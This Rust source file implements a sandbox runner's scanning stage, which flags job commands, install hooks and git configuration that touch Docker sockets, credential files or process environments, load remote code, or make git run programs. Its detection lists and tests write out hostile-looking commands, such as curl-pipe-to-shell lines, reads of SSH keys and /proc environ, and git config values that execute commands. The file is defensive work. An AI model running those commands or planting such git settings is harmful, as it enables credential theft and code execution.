//! Stage 5: scan. The job's own commands and the repository's install hooks (package.json scripts,
//! build.rs, setup.py, conftest.py, Makefiles, `.cargo/config.toml` runners) read as text for Docker
//! sockets, credential paths, process environments and remote code loads (`curl ... | sh`). A job command
//! doing these is refused; a repository file doing them is a recorded finding that the fence contains.
//! The repository's `.git/config` (with its hooks) and `.gitmodules` are read too: every key under which git
//! would run a program is reported ([`scan_git`]), though the runner itself never runs git with them.

use crate::job::Job;
use crate::report::{Finding, IntakeLimits, Severity, Stage};
use std::fs;
use std::path::{Path, PathBuf};

/// One suspicious thing in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Hit {
    /// 1-based line in the scanned text.
    pub line: usize,
    /// The category (`docker socket`, `credential path`, `process environment`, `remote code load`).
    pub category: &'static str,
    /// The matched text, shortened.
    pub excerpt: String,
}

const SOCKETS: &[&str] = &[
    "docker.sock",
    "containerd.sock",
    "podman.sock",
    "docker_host",
];

const CREDENTIALS: &[&str] = &[
    "/.ssh",
    "~/.ssh",
    ".ssh/id_",
    "/.aws",
    "~/.aws",
    ".config/gcloud",
    ".netrc",
    ".cargo/credentials",
    ".docker/config.json",
    ".kube/config",
    ".git-credentials",
    "/.gnupg",
    "~/.gnupg",
    "/.pypirc",
    "~/.pypirc",
    "~/.npmrc",
    "$home/.npmrc",
    "aws_secret_access_key",
];

const FETCHERS: &[&str] = &["curl", "wget", "fetch", "iwr", "invoke-webrequest"];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "source",
    ".",
    "iex",
    "pwsh",
    "powershell",
];

/// The program word of a pipeline segment: skips `sudo`, `env`, `exec`, `command`, options and `VAR=x`.
fn program_word(segment: &str) -> Option<String> {
    for w in segment.split_whitespace() {
        // A shell separator ends the word: `| sh; sleep 5` pipes into `sh`.
        let w = w.split([';', '&', ')']).next().unwrap_or(w);
        let w = w.trim_matches(|c| c == '(' || c == ')' || c == '{' || c == '"' || c == '\'');
        if w.is_empty()
            || w.starts_with('-')
            || w.contains('=')
            || ["sudo", "env", "exec", "command", "nohup", "time"].contains(&w)
        {
            continue;
        }
        let base = w.rsplit('/').next().unwrap_or(w);
        return Some(base.to_string());
    }
    None
}

fn is_fetcher(word: &str) -> bool {
    FETCHERS.contains(&word)
}

fn contains_fetch_word(segment: &str) -> bool {
    segment
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        .any(is_fetcher)
}

fn remote_code_load(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    // `fetch ... | interpreter`, on `|` but not `||`.
    let segments: Vec<&str> = split_pipes(&l);
    if segments.len() > 1 {
        let mut fetched = false;
        for seg in &segments {
            if fetched {
                if let Some(p) = program_word(seg) {
                    if INTERPRETERS.contains(&p.as_str())
                        || p.starts_with("python")
                        || p.starts_with("ruby")
                        || p.starts_with("perl")
                    {
                        return true;
                    }
                }
            }
            if contains_fetch_word(seg) {
                fetched = true;
            }
        }
    }
    // Command substitution or process substitution of a fetch, evaluated.
    let subst = [
        "$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget", "$( curl", "$( wget",
    ];
    if subst.iter().any(|s| l.contains(s)) {
        let evaluators = [
            "eval",
            "sh -c",
            "bash -c",
            "zsh -c",
            "source",
            ". <(",
            "sh <(",
            "bash <(",
            "python -c",
            "python3 -c",
            "node -e",
            "perl -e",
            "ruby -e",
        ];
        if evaluators.iter().any(|e| l.contains(e)) {
            return true;
        }
    }
    // Download to a file, then run that file (`curl -o i.sh URL && sh i.sh`).
    if contains_fetch_word(&l) {
        let words: Vec<&str> = l.split_whitespace().collect();
        let mut outputs: Vec<String> = Vec::new();
        for (i, w) in words.iter().enumerate() {
            let takes_file = ["-o", "-O", "--output", "--output-document", ">", ">>"].contains(w)
                || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('o') && w.len() <= 6);
            if takes_file {
                if let Some(f) = words.get(i + 1) {
                    let f = f.trim_matches(|c| c == '"' || c == '\'' || c == ';');
                    if !f.is_empty() && f != "-" && !f.starts_with('-') {
                        outputs.push(f.to_string());
                    }
                }
            } else if let Some(f) = w
                .strip_prefix("--output=")
                .or_else(|| w.strip_prefix("--output-document="))
            {
                outputs.push(f.to_string());
            }
        }
        for f in outputs {
            let base = f.rsplit('/').next().unwrap_or(&f).to_string();
            let runs = [
                format!("sh {f}"),
                format!("bash {f}"),
                format!("source {f}"),
                format!(". {f}"),
                format!("./{base}"),
                format!("python {f}"),
                format!("python3 {f}"),
                format!("perl {f}"),
                format!("node {f}"),
                format!("ruby {f}"),
                format!("chmod +x {f}"),
                format!("zsh {f}"),
            ];
            if runs.iter().any(|r| {
                l.match_indices(r.as_str()).any(|(at, _)| {
                    // the file name must end there (`sh i.sh` is not `sh i.shx`)
                    l[at + r.len()..].chars().next().is_none_or(|c| {
                        c.is_whitespace() || c == ';' || c == '&' || c == '|' || c == ')'
                    })
                })
            }) {
                return true;
            }
        }
    }
    // Interpreters evaluating what they download.
    let dyn_eval = [
        ("exec(", "urlopen"),
        ("exec(", "requests.get"),
        ("eval(", "urlopen"),
        ("eval(", "requests.get"),
        ("eval(", "fetch("),
        ("eval(", "http.get"),
        ("iex", "downloadstring"),
    ];
    dyn_eval.iter().any(|(a, b)| l.contains(a) && l.contains(b))
}

fn split_pipes(l: &str) -> Vec<&str> {
    let b = l.as_bytes();
    let mut out = Vec::new();
    let mut start = 0;
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'|' {
            if i + 1 < b.len() && b[i + 1] == b'|' {
                i += 2;
                continue;
            }
            if i > 0 && b[i - 1] == b'|' {
                i += 1;
                continue;
            }
            out.push(&l[start..i]);
            start = i + 1;
        }
        i += 1;
    }
    out.push(&l[start..]);
    out
}

fn excerpt(line: &str) -> String {
    let t = line.trim();
    if t.chars().count() > 160 {
        let s: String = t.chars().take(160).collect();
        format!("{s}...")
    } else {
        t.to_string()
    }
}

/// Scans a text (a command, a script, a source file) line by line; backslash-newline continuations are
/// joined first so a pipeline split over lines is still one line.
pub fn scan_text(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut logical = String::new();
    let mut first_line = 1;
    for (i, raw) in text.lines().enumerate() {
        if logical.is_empty() {
            first_line = i + 1;
        }
        if let Some(stripped) = raw.strip_suffix('\\') {
            logical.push_str(stripped);
            logical.push(' ');
            continue;
        }
        logical.push_str(raw);
        scan_line(&logical, first_line, &mut hits);
        logical.clear();
    }
    if !logical.is_empty() {
        scan_line(&logical, first_line, &mut hits);
    }
    hits
}

fn scan_line(line: &str, n: usize, hits: &mut Vec<Hit>) {
    let l = line.to_ascii_lowercase();
    let mut hit = |category| {
        hits.push(Hit {
            line: n,
            category,
            excerpt: excerpt(line),
        })
    };
    if SOCKETS.iter().any(|s| l.contains(s)) {
        hit("docker socket");
    }
    if CREDENTIALS.iter().any(|s| l.contains(s)) {
        hit("credential path");
    }
    if l.contains("/proc/") && l.contains("environ") {
        hit("process environment");
    }
    if remote_code_load(line) {
        hit("remote code load");
    }
}

/// Stage 5 on the job's commands: every hit is a refusal.
pub fn scan_job(job: &Job) -> Vec<Finding> {
    let mut out = Vec::new();
    let mut cmds: Vec<(&str, &str)> = Vec::new();
    if let Some(i) = &job.install {
        cmds.push(("install.command", &i.command));
    }
    if let Some(t) = &job.test.command {
        cmds.push(("test.command", t));
    }
    for (key, cmd) in cmds {
        for h in scan_text(cmd) {
            out.push(Finding::new(
                Stage::Scan,
                Severity::Refusal,
                key,
                format!("{}: `{}`", h.category, h.excerpt),
            ));
        }
    }
    out
}

/// Install-hook files stage 5 reads in a repository.
fn hook_kind(path: &Path) -> Option<&'static str> {
    let name = path.file_name()?.to_str()?;
    let parent = path
        .parent()
        .and_then(|p| p.file_name())
        .and_then(|n| n.to_str());
    match name {
        "package.json" => Some("package.json"),
        "build.rs" => Some("build.rs"),
        "setup.py" => Some("setup.py"),
        "conftest.py" => Some("conftest.py"),
        "Makefile" | "makefile" | "GNUmakefile" => Some("Makefile"),
        "config.toml" | "config" if parent == Some(".cargo") => Some("cargo config"),
        _ => None,
    }
}

/// Stage 5 on a repository directory: hooks doing suspicious things are `Contained` findings; hooks that
/// redirect what runs (cargo runners and wrappers) too; files too large to read are notes.
pub fn scan_repository(repo: &Path, limits: &IntakeLimits) -> Vec<Finding> {
    let mut out = scan_git(repo, limits);
    let mut stack: Vec<PathBuf> = vec![repo.to_path_buf()];
    let mut seen: u64 = 0;
    while let Some(dir) = stack.pop() {
        let Ok(rd) = fs::read_dir(&dir) else {
            continue;
        };
        let mut items: Vec<PathBuf> = rd.filter_map(|d| d.ok().map(|d| d.path())).collect();
        items.sort();
        for p in items {
            seen += 1;
            if seen > limits.max_entries {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    rel(repo, &p),
                    format!(
                        "scan stopped after max_entries = {} files",
                        limits.max_entries
                    ),
                ));
                return out;
            }
            let Ok(m) = fs::symlink_metadata(&p) else {
                continue;
            };
            if m.is_dir() {
                if p.file_name().is_some_and(|n| n == ".git") {
                    continue;
                }
                stack.push(p);
                continue;
            }
            if !m.is_file() {
                continue;
            }
            let Some(kind) = hook_kind(&p) else {
                continue;
            };
            let where_ = rel(repo, &p);
            if m.len() > limits.max_scan_file_bytes {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    where_,
                    format!(
                        "{kind} not scanned: {} bytes, more than max_scan_file_bytes = {}",
                        m.len(),
                        limits.max_scan_file_bytes
                    ),
                ));
                continue;
            }
            let Ok(bytes) = fs::read(&p) else {
                continue;
            };
            let text = String::from_utf8_lossy(&bytes);
            scan_hook(kind, &where_, &text, &mut out);
        }
    }
    out
}

/// One `key = value` of a git configuration file: section and key lowercased, the subsection as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitConfigEntry {
    /// 1-based line where the key starts.
    pub line: usize,
    /// The section (`remote`), lowercased.
    pub section: String,
    /// The subsection (`origin`), if any, as written.
    pub subsection: Option<String>,
    /// The key (`uploadpack`), lowercased.
    pub key: String,
    /// The value, unquoted (`None` for a bare key, which git reads as `true`).
    pub value: Option<String>,
}

impl GitConfigEntry {
    /// `section.subsection.key`.
    pub fn name(&self) -> String {
        match &self.subsection {
            Some(sub) => format!("{}.{sub}.{}", self.section, self.key),
            None => format!("{}.{}", self.section, self.key),
        }
    }
}

/// Reads a git configuration text the way git does closely enough to find every key (sections `[a]`,
/// `[a "sub"]`, `[a.sub]`, a key on the header's line, quoted values, `#`/`;` comments, backslash line
/// continuations). Tolerant: a line it cannot read is skipped. This is for reporting; the runner's safety
/// never rests on it (it never runs git with a repository's configuration).
pub fn parse_git_config(text: &str) -> Vec<GitConfigEntry> {
    let mut out = Vec::new();
    let mut section = String::new();
    let mut subsection: Option<String> = None;
    let lines: Vec<&str> = text.lines().collect();
    let mut i = 0;
    while i < lines.len() {
        let start = i + 1;
        let mut line = lines[i].to_string();
        i += 1;
        let mut rest = line.trim_start();
        if rest.starts_with('[') {
            let Some(close) = header_end(rest) else {
                continue;
            };
            let header = &rest[1..close];
            match header.find(|c: char| c.is_whitespace()) {
                Some(sp) => {
                    section = header[..sp].to_ascii_lowercase();
                    let sub = header[sp..].trim();
                    let sub = sub
                        .strip_prefix('"')
                        .and_then(|s| s.strip_suffix('"'))
                        .unwrap_or(sub);
                    subsection = Some(sub.replace("\\\"", "\"").replace("\\\\", "\\"));
                }
                None => match header.split_once('.') {
                    Some((a, b)) => {
                        section = a.to_ascii_lowercase();
                        subsection = Some(b.to_ascii_lowercase());
                    }
                    None => {
                        section = header.to_ascii_lowercase();
                        subsection = None;
                    }
                },
            }
            let after = rest[close + 1..].to_string();
            line = after;
            rest = line.trim_start();
        }
        if rest.is_empty() || rest.starts_with('#') || rest.starts_with(';') {
            continue;
        }
        let (key, raw) = match rest.split_once('=') {
            Some((k, v)) => (k.trim(), Some(v.to_string())),
            None => (rest.trim(), None),
        };
        if key.is_empty() || !key.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-') {
            continue;
        }
        let value = raw.map(|mut v| {
            // Continuations: a value whose last unquoted character is `\` goes on on the next line.
            while v.trim_end().ends_with('\\') && i < lines.len() {
                let t = v.trim_end();
                v = format!("{}{}", &t[..t.len() - 1], lines[i]);
                i += 1;
            }
            unquote_value(&v)
        });
        out.push(GitConfigEntry {
            line: start,
            section: section.clone(),
            subsection: subsection.clone(),
            key: key.to_ascii_lowercase(),
            value,
        });
    }
    out
}

fn header_end(s: &str) -> Option<usize> {
    let mut quoted = false;
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            ']' if !quoted => return Some(i),
            _ => {}
        }
    }
    None
}

fn unquote_value(v: &str) -> String {
    let mut out = String::new();
    let mut quoted = false;
    let mut chars = v.trim().chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => quoted = !quoted,
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('b') => {
                    out.pop();
                }
                Some(o) => out.push(o),
                None => {}
            },
            '#' | ';' if !quoted => break,
            c => out.push(c),
        }
    }
    out.trim_end().to_string()
}

/// Why git would run a program because of this configuration entry, or `None`.
pub fn git_program_key(e: &GitConfigEntry) -> Option<&'static str> {
    let v = e.value.as_deref().unwrap_or("");
    let sub = e.subsection.is_some();
    let is_bool = |v: &str| {
        ["true", "false", "yes", "no", "on", "off", "1", "0", ""]
            .contains(&v.to_ascii_lowercase().as_str())
    };
    Some(match (e.section.as_str(), sub, e.key.as_str()) {
        ("core", false, "fsmonitor") if v.eq_ignore_ascii_case("false") || v.is_empty() => return None,
        ("core", false, "fsmonitor") => "git runs it (or a daemon) on every status, add and checkout",
        ("core", false, "sshcommand") => "git runs it for every ssh transport",
        ("core", false, "gitproxy") => "git runs it for the git:// transport",
        ("core", false, "askpass") => "git runs it to ask for credentials",
        ("core", false, "editor") | ("sequence", false, "editor") => "git runs it as the editor",
        ("core", false, "pager") | ("pager", _, _) if !is_bool(v) => "git runs it as a pager",
        ("core", false, "alternaterefscommand") => "git runs it when it fetches or pushes",
        ("core", false, "hookspath") => "git runs the hooks in that directory",
        ("core", false, "worktree") => "it points git's work tree at another directory",
        ("init", false, "templatedir") => "git copies hooks from that directory",
        ("remote", true, "uploadpack") | ("remote", true, "receivepack") => {
            "git runs it as the remote's server program (a fetch from a local path runs it as a shell command)"
        }
        ("remote", true, "vcs") => "git runs the remote helper git-remote-<vcs>",
        ("remote", true, "url") | ("remote", true, "pushurl") | ("submodule", true, "url")
            if v.starts_with("ext::") || v.starts_with('-') =>
        {
            "the URL makes git run a command (ext:: transport or an option)"
        }
        ("remote", true, "promisor") if !v.eq_ignore_ascii_case("false") => {
            "a promisor remote: git fetches missing objects from it (lazily, on any read)"
        }
        ("extensions", false, "partialclone") => {
            "a partial clone: git fetches missing objects from that remote on any read, running its uploadpack"
        }
        ("filter", true, "clean") | ("filter", true, "smudge") | ("filter", true, "process") => {
            "git runs the filter on files whose attributes name it"
        }
        ("diff", false, "external") | ("diff", true, "command") => "git runs it to show a diff",
        ("diff", true, "textconv") => "git runs it to convert files for a diff",
        ("merge", true, "driver") => "git runs it to merge files",
        ("gpg", _, "program") => "git runs it to sign or verify",
        ("gpg", true, "defaultkeycommand") => "git runs it to find a signing key",
        ("credential", _, "helper") => "git runs it for credentials",
        ("alias", true, _) | ("alias", false, _) if v.starts_with('!') => "the alias runs a shell command",
        ("uploadpack", false, "packobjectshook") => "git upload-pack runs it",
        ("include", false, "path") | ("includeif", true, "path") => {
            "it includes another configuration file (which git would read too)"
        }
        ("hook", true, "command") => "git runs it as a hook",
        ("difftool", true, "cmd") | ("mergetool", true, "cmd") => "git runs it as a diff or merge tool",
        ("difftool", true, "path") | ("mergetool", true, "path") => "git runs it as a diff or merge tool",
        ("tar", true, "command") => "git archive runs it",
        ("sendemail", _, "sendmailcmd") | ("sendemail", _, "tocmd") | ("sendemail", _, "cccmd") => {
            "git send-email runs it"
        }
        ("imap", false, "tunnel") => "git imap-send runs it",
        ("interactive", false, "difffilter") => "git runs it in interactive add",
        ("browser", true, "cmd") | ("browser", true, "path") | ("man", true, "cmd") | ("man", true, "path") => {
            "git runs it as a browser or man viewer"
        }
        ("submodule", true, "update") if v.starts_with('!') => "git submodule update runs that command",
        ("url", true, "insteadof") | ("url", true, "pushinsteadof") => "it rewrites URLs git fetches from",
        ("protocol", _, "allow") => "it changes which transports git may use (ext:: runs commands)",
        _ => return None,
    })
}

fn git_finding(out: &mut Vec<Finding>, location: String, what: String) {
    out.push(Finding::new(
        Stage::Scan,
        Severity::Contained,
        location,
        what,
    ));
}

/// Stage 5 on the repository's git data: each key of `.git/config` (and of a `config.worktree`) and of
/// `.gitmodules` under which git would run a program, each executable hook in `.git/hooks`, and a `.git`
/// the fence will not follow (a gitfile, alternates, grafts, shallow, replace refs). These are `Contained`
/// findings: the runner never runs git with the repository's configuration (`guest::fence::gitdir` reads
/// `.git` as data), and inside the sandbox such a program runs contained like any other test code.
pub fn scan_git(repo: &Path, limits: &IntakeLimits) -> Vec<Finding> {
    let mut out = Vec::new();
    let dot_git = repo.join(".git");
    let read = |p: &Path| -> Option<String> {
        let m = fs::symlink_metadata(p).ok()?;
        if !m.is_file() || m.len() > limits.max_scan_file_bytes {
            return None;
        }
        fs::read(p)
            .ok()
            .map(|b| String::from_utf8_lossy(&b).into_owned())
    };
    let config_files: Vec<(String, PathBuf)> = match fs::symlink_metadata(&dot_git) {
        Ok(m) if m.is_dir() => vec![
            (".git/config".into(), dot_git.join("config")),
            (
                ".git/config.worktree".into(),
                dot_git.join("config.worktree"),
            ),
        ],
        Ok(m) if m.is_file() => {
            let target = read(&dot_git).unwrap_or_default();
            git_finding(
                &mut out,
                ".git".into(),
                format!(
                    "`.git` is a gitfile (`{}`): the fence never follows it, records no commit, and refuses a `commit` claim",
                    excerpt(&target)
                ),
            );
            Vec::new()
        }
        Ok(m) if m.file_type().is_symlink() => {
            git_finding(
                &mut out,
                ".git".into(),
                "`.git` is a symbolic link: the fence never follows it, records no commit, and refuses a `commit` claim".into(),
            );
            Vec::new()
        }
        _ => Vec::new(),
    };
    for (name, path) in config_files.iter().chain(std::iter::once(&(
        ".gitmodules".to_string(),
        repo.join(".gitmodules"),
    ))) {
        let Some(text) = read(path) else {
            if fs::symlink_metadata(path).is_ok_and(|m| m.len() > limits.max_scan_file_bytes) {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    name.clone(),
                    format!(
                        "not scanned: larger than max_scan_file_bytes = {}",
                        limits.max_scan_file_bytes
                    ),
                ));
            }
            continue;
        };
        for e in parse_git_config(&text) {
            if let Some(why) = git_program_key(&e) {
                git_finding(
                    &mut out,
                    format!("{name}:{}", e.line),
                    format!(
                        "git config `{}` = `{}`: {why}; the runner never runs git with it",
                        e.name(),
                        excerpt(e.value.as_deref().unwrap_or("true"))
                    ),
                );
            }
        }
    }
    if config_files.is_empty() {
        return out;
    }
    if let Ok(rd) = fs::read_dir(dot_git.join("hooks")) {
        let mut hooks: Vec<_> = rd
            .filter_map(Result::ok)
            .filter(|e| {
                use std::os::unix::fs::PermissionsExt;
                let n = e.file_name();
                !n.to_string_lossy().ends_with(".sample")
                    && fs::symlink_metadata(e.path())
                        .is_ok_and(|m| !m.is_dir() && m.permissions().mode() & 0o111 != 0)
            })
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        hooks.sort();
        for h in hooks {
            git_finding(
                &mut out,
                format!(".git/hooks/{h}"),
                "an executable git hook; the runner never runs git with the repository's hooks"
                    .into(),
            );
        }
    }
    for (rel, what) in [
        (
            "objects/info/alternates",
            "alternates (objects from another repository)",
        ),
        ("objects/info/http-alternates", "HTTP alternates"),
        ("shallow", "a shallow clone's grafts"),
        ("info/grafts", "grafts"),
        ("commondir", "a linked worktree's commondir"),
        ("refs/replace", "replace refs"),
    ] {
        if fs::symlink_metadata(dot_git.join(rel)).is_ok() {
            git_finding(
                &mut out,
                format!(".git/{rel}"),
                format!("{what}: the fence records no commit for this repository and refuses a `commit` claim"),
            );
        }
    }
    out
}

fn rel(root: &Path, p: &Path) -> String {
    p.strip_prefix(root).unwrap_or(p).display().to_string()
}

fn contained(out: &mut Vec<Finding>, location: String, kind: &str, h: &Hit) {
    out.push(Finding::new(
        Stage::Scan,
        Severity::Contained,
        location,
        format!("{kind}: {}: `{}`", h.category, h.excerpt),
    ));
}

fn scan_hook(kind: &str, where_: &str, text: &str, out: &mut Vec<Finding>) {
    match kind {
        "package.json" => {
            // Only the lifecycle scripts npm runs on install are hooks; the rest of the manifest is data.
            let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
                out.push(Finding::new(
                    Stage::Scan,
                    Severity::Note,
                    where_,
                    "package.json is not valid JSON; not scanned",
                ));
                return;
            };
            for hook in [
                "preinstall",
                "install",
                "postinstall",
                "prepare",
                "preprepare",
                "postprepare",
            ] {
                if let Some(s) = v
                    .pointer(&format!("/scripts/{hook}"))
                    .and_then(|s| s.as_str())
                {
                    for h in scan_text(s) {
                        contained(out, format!("{where_}: scripts.{hook}"), kind, &h);
                    }
                }
            }
        }
        "cargo config" => {
            if let Ok(t) = text.parse::<toml::Table>() {
                let mut redirect = |key: String, val: &toml::Value| {
                    out.push(Finding::new(
                        Stage::Scan,
                        Severity::Contained,
                        where_.to_string(),
                        format!("cargo config sets `{key}` = {val}: cargo will run that program"),
                    ));
                };
                if let Some(b) = t.get("build").and_then(|b| b.as_table()) {
                    for k in [
                        "rustc",
                        "rustc-wrapper",
                        "rustc-workspace-wrapper",
                        "rustdoc",
                    ] {
                        if let Some(v) = b.get(k) {
                            redirect(format!("build.{k}"), v);
                        }
                    }
                }
                if let Some(targets) = t.get("target").and_then(|b| b.as_table()) {
                    for (name, tv) in targets {
                        if let Some(tt) = tv.as_table() {
                            for k in ["runner", "linker"] {
                                if let Some(v) = tt.get(k) {
                                    redirect(format!("target.{name}.{k}"), v);
                                }
                            }
                        }
                    }
                }
            }
            for h in scan_text(text) {
                contained(out, format!("{where_}:{}", h.line), kind, &h);
            }
        }
        _ => {
            for h in scan_text(text) {
                contained(out, format!("{where_}:{}", h.line), kind, &h);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cats(s: &str) -> Vec<&'static str> {
        scan_text(s).into_iter().map(|h| h.category).collect()
    }

    #[test]
    fn remote_code_loads() {
        for bad in [
            "curl -fsSL https://get.example/install.sh | sh",
            "curl https://x.example | sudo bash -s -- --yes",
            "wget -O- https://x.example/i | bash",
            "wget -qO - https://x.example/i|python3 -",
            "eval \"$(curl -s https://x.example/env)\"",
            "sh -c \"$(wget -O- https://x.example)\"",
            "bash <(curl -s https://x.example)",
            "curl -s https://x.example \\\n  | sh",
            "python -c \"exec(urlopen('https://x.example').read())\"",
            "curl -fsSL -o install.sh https://x.example/i && sh install.sh",
            "wget -O /tmp/i.sh https://x.example/i; bash /tmp/i.sh",
            "curl -sLo setup https://x.example/s && chmod +x setup && ./setup",
            "curl https://x.example/i > i.py && python3 i.py",
            "curl -s http://x.example/i.sh | sh; sleep 5",
            "curl -s http://x.example/i.sh | sh&& true",
            "curl -s http://x.example/i.sh | (bash)",
        ] {
            assert!(cats(bad).contains(&"remote code load"), "{bad}");
        }
        for ok in [
            "curl -o file.tgz https://x.example/a.tgz && tar xzf file.tgz",
            "cargo test || true",
            "echo curl | grep curl",
            "make test",
            "wget https://x.example/data.csv",
            "curl -o data.tgz https://x.example/d.tgz && tar xzf data.tgz && sh test.sh",
            "curl -o i.sh https://x.example/i && sh i.shx",
        ] {
            assert!(!cats(ok).contains(&"remote code load"), "{ok}");
        }
    }

    #[test]
    fn sockets_credentials_environ() {
        assert!(cats("docker -H unix:///var/run/docker.sock ps").contains(&"docker socket"));
        assert!(cats("cat ~/.ssh/id_rsa").contains(&"credential path"));
        assert!(cats("cp $HOME/.aws/credentials /tmp").contains(&"credential path"));
        assert!(cats("open(os.path.expanduser('~/.netrc'))").contains(&"credential path"));
        assert!(cats("cat /proc/1/environ").contains(&"process environment"));
        assert!(cats("tr '\\0' '\\n' < /proc/self/environ").contains(&"process environment"));
        assert!(cats("cargo test --workspace").is_empty());
    }

    #[test]
    fn git_config_keys_that_run_programs() {
        let text = "[core]\n\trepositoryformatversion = 1\n\tfsmonitor = \"/x/fsm\" ; comment\n\tbare = false\n\
                    [remote \"origin\"]\n\turl = /x/origin.git\n\tuploadpack = sh -c 'touch /x/p'\n\tpromisor = true\n\
                    [extensions] partialClone = origin\n[filter.lfs]\n\tsmudge = /x/smudge\n\
                    [diff]\n\texternal = /x/diff\n[credential]\n\thelper = \"!f() { echo; }; f\"\n\
                    [alias]\n\tst = status\n\tx = !sh -c 'id'\n[include]\n\tpath = /x/more\n\
                    [core]\n\tsshCommand = /x/ssh \\\n  -v\n";
        let entries = parse_git_config(text);
        let named: Vec<String> = entries
            .iter()
            .filter(|e| git_program_key(e).is_some())
            .map(|e| e.name())
            .collect();
        assert_eq!(
            named,
            [
                "core.fsmonitor",
                "remote.origin.uploadpack",
                "remote.origin.promisor",
                "extensions.partialclone",
                "filter.lfs.smudge",
                "diff.external",
                "credential.helper",
                "alias.x",
                "include.path",
                "core.sshcommand",
            ]
        );
        let fsm = entries.iter().find(|e| e.key == "fsmonitor").expect("fsm");
        assert_eq!(fsm.value.as_deref(), Some("/x/fsm"));
        assert_eq!(fsm.line, 3);
        let ssh = entries.iter().find(|e| e.key == "sshcommand").expect("ssh");
        assert_eq!(ssh.value.as_deref(), Some("/x/ssh   -v"));
        assert_eq!(ssh.line, 22);
    }

    #[test]
    fn scan_git_reports_config_hooks_modules_and_gitfiles() {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().expect("tmp");
        let p = d.path();
        fs::create_dir_all(p.join(".git/hooks")).expect("hooks");
        fs::write(p.join(".git/config"), "[core]\n\thooksPath = /x/hooks\n").expect("w");
        fs::write(p.join(".git/hooks/post-checkout"), "#!/bin/sh\n").expect("w");
        fs::set_permissions(
            p.join(".git/hooks/post-checkout"),
            fs::Permissions::from_mode(0o755),
        )
        .expect("chmod");
        fs::write(p.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("w");
        fs::create_dir_all(p.join(".git/objects/info")).expect("info");
        fs::write(p.join(".git/objects/info/alternates"), "/x\n").expect("w");
        fs::write(
            p.join(".gitmodules"),
            "[submodule \"s\"]\n\tpath = s\n\turl = ext::sh -c touch% /x\n\tupdate = !sh /x\n",
        )
        .expect("w");
        let f = scan_git(p, &IntakeLimits::default());
        let locs: Vec<&str> = f.iter().map(|f| f.location.as_str()).collect();
        assert_eq!(
            locs,
            [
                ".git/config:2",
                ".gitmodules:3",
                ".gitmodules:4",
                ".git/hooks/post-checkout",
                ".git/objects/info/alternates"
            ],
            "{f:?}"
        );
        assert!(f.iter().all(|f| f.severity == Severity::Contained));
        let d = tempfile::tempdir().expect("tmp");
        fs::write(d.path().join(".git"), "gitdir: /elsewhere\n").expect("w");
        let f = scan_git(d.path(), &IntakeLimits::default());
        assert_eq!(f.len(), 1);
        assert!(f[0].what.contains("gitfile"), "{f:?}");
    }
}
